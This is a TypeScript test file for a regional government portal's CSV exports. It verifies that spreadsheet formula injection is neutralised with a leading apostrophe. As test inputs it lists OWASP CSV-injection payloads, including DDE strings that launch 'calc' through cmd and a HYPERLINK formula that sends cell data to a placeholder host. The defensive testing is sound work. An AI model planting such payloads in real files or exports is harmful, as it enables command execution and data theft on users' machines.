/**
 * CSV injection (OWASP "CSV Injection") in the generated downloads: every cell that a spreadsheet would start to
 * evaluate gets a leading apostrophe, in the one writer (src/exports/csv.ts) and in /informasi/dip.csv built from
 * content. Numbers handed over as numbers stay numbers. The weekly report CSV is covered in tests/compliance.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ContentModel, Entry, OpdEntry } from '../../src/content/model.ts';
import { csvCell, neutraliseFormula, toCsv } from '../../src/exports/csv.ts';
import { DIP_COLUMNS, dipCsvHeader, dipCsvRows, dipRows } from '../../src/exports/dip.ts';
import { CELL_BREAK, FORMULA_TRIGGER, parseCsvRows } from '../../src/lib/csv.ts';
import { InformasiSchema, OpdSchema, PemdaSchema, type Informasi } from '../../src/schemas/index.ts';
import { siteModelOf } from '../../src/site/model.ts';

const OWASP_PAYLOADS = [
  '=HYPERLINK("https://contoh.invalid/?d="&A1,"klik")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\u00A0=1+1',
  '\uFF1DHYPERLINK("https://contoh.invalid")',
];

/** True when some cell start inside `text` (the start, or after ; tab CR LF) begins with a formula character. */
function evaluable(text: string): boolean {
  return text.split(CELL_BREAK).some((part) => {
    const t = part.trim();
    return FORMULA_TRIGGER.test(t.charAt(0)) && !/^-+$/.test(t);
  });
}

describe('csvCell', () => {
  it.each(OWASP_PAYLOADS)('neutralises %j with a leading apostrophe', (payload) => {
    const cell = parseCsvRows(`${csvCell(payload)},x\r\n`, ',')[0].cells[0];
    expect(cell.startsWith("'")).toBe(true);
    expect(cell.replace(/(^|[;\t\r\n])'/g, '$1')).toBe(payload);
  });

  it('neutralises a formula after a ; or a line break inside the text (Excel with Indonesian settings splits there)', () => {
    expect(neutraliseFormula('aman;=HYPERLINK("x")')).toBe('aman;\'=HYPERLINK("x")');
    expect(neutraliseFormula('baris satu\n-2+3+cmd|x')).toBe("baris satu\n'-2+3+cmd|x");
  });

  it('leaves plain text, the "no data" dash and real numbers alone', () => {
    expect(csvCell('Bidang Anggaran')).toBe('Bidang Anggaran');
    expect(csvCell('Sayung - Demak')).toBe('Sayung - Demak');
    expect(csvCell('-')).toBe('-');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(-2.5)).toBe('-2.5');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
  });

  it('a string is text: "-5" and "+62 291" as strings get the apostrophe (typed numeric columns pass numbers)', () => {
    expect(csvCell('-5')).toBe("'-5");
    expect(csvCell('+62 291 685877')).toBe("'+62 291 685877");
  });

  it('never lets any string reach a spreadsheet as a formula, and reads back as written after the apostrophes', () => {
    const risky = fc.oneof(fc.string(), fc.constantFrom(...OWASP_PAYLOADS), fc.array(fc.constantFrom('=', '+', '-', '@', ';', '\t', '\r', '\n', ' ', 'a', '1', '"', ','), { maxLength: 12 }).map((a) => a.join('')));
    fc.assert(
      fc.property(risky, (text) => {
        const cell = parseCsvRows(toCsv(['kolom', 'x'], [[text, 'x']]), ',')[1].cells[0];
        // Parsed back (RFC 4180), the cell has no cell start a spreadsheet would evaluate...
        expect(evaluable(cell.replace(/(^|[;\t\r\n])'/g, '$1\u0000'))).toBe(false);
        // ...and is the text itself with apostrophes added only at cell starts.
        expect(cell.replace(/(^|[;\t\r\n])'/g, '$1')).toBe(text.replace(/(^|[;\t\r\n])'/g, '$1'));
      }),
      { numRuns: 2000 },
    );
  });
});

describe('/informasi/dip.csv', () => {
  const pemda = PemdaSchema.parse({
    nama: 'Pemerintah Kabupaten Demak', singkatan: 'Pemkab Demak', kode_wilayah: '33.21', situs: 'https://ppid.demakkab.go.id',
    alamat: 'Jl. Kyai Singkil No. 7', kode_pos: '59511', telepon: ['(0291) 685877'], email: 'ppid@demakkab.go.id', ppid_utama: 'dinkominfo',
  });
  const opd: OpdEntry = {
    opd: 'bpbd', slug: 'profil', path: 'content/opd/bpbd/profil.md', body: '',
    data: OpdSchema.parse({
      nama: '=Badan Penanggulangan Bencana', singkatan: 'bpbd', jenis: 'badan', alamat: 'Jl. Sultan Fatah No. 1, Demak', kode_pos: '59511',
      telepon: ['(0291) 1'], email: 'bpbd@demakkab.go.id', kepala: { nama: 'Kepala', jabatan: 'Kepala Badan' },
      pejabat: [{ nama: 'Sekretaris', jabatan: 'Sekretaris' }], ppid_pelaksana: { nama: 'Sekretaris', jabatan: 'PPID Pelaksana' }, diperbarui: '2026-01-05',
    }),
  };
  const info = (slug: string, fields: Partial<Record<keyof Informasi, unknown>>): Entry<Informasi> => ({
    opd: 'bpbd', slug, path: `content/opd/bpbd/informasi/${slug}.md`, body: '',
    data: InformasiSchema.parse({
      judul: `Informasi ${slug}`, kategori: 'setiap-saat', setiap_saat: 'kebijakan', ringkasan: 'Ringkasan isi informasi', pejabat_penguasa: 'Bidang Anggaran',
      penanggung_jawab: 'Sekretaris', waktu_pembuatan: 2026, tempat_pembuatan: 'Demak', bentuk: 'softcopy', retensi: '5 tahun',
      diperbarui: '2026-11-01', ...fields,
    }),
  });
  const model: ContentModel = {
    pemda, opds: new Map([[opd.opd, opd]]), berita: [], datasets: [], dokumen: [], halaman: [], aplikasi: [], indikator: [], permohonan: [], laporanLayanan: [],
    informasi: [
      info('a-hyperlink', { judul: '-2+3+cmd|\' /C calc\'!A0', ringkasan: '=HYPERLINK("https://contoh.invalid","klik")', pejabat_penguasa: '@SUM(1+1)' }),
      info('b-tab', { ringkasan: '\t=1+1 setelah tab', penanggung_jawab: '+cmd|\' /C calc\'!A0', retensi: 'aman;=1+1' }),
    ],
    // Only the fields these tests read; the tree's other members (limits, reader) are not used here.
    tree: { root: '/nonexistent', files: [], sources: new Map() } as unknown as ContentModel['tree'],
  };

  it('neutralises formula cells from any content field and keeps the number column numeric', () => {
    const site = siteModelOf(model);
    const csv = toCsv(dipCsvHeader(), dipCsvRows(dipRows(site), pemda.situs));
    const rows = parseCsvRows(csv, ',').slice(1).map((r) => Object.fromEntries(DIP_COLUMNS.map((c, i) => [c.key, r.cells[i]])));
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      no: '1', opd_nama: "'=Badan Penanggulangan Bencana", judul: "'-2+3+cmd|' /C calc'!A0",
      ringkasan: '\'=HYPERLINK("https://contoh.invalid","klik")', pejabat_penguasa: "'@SUM(1+1)",
    });
    expect(rows[1]).toMatchObject({ no: '2', ringkasan: "'\t'=1+1 setelah tab", penanggung_jawab: "'+cmd|' /C calc'!A0", retensi: "aman;'=1+1" });
    for (const row of rows) for (const [key, cell] of Object.entries(row)) expect(evaluable(cell.replace(/(^|[;\t\r\n])'/g, '$1\u0000')), key).toBe(false);
  });
});
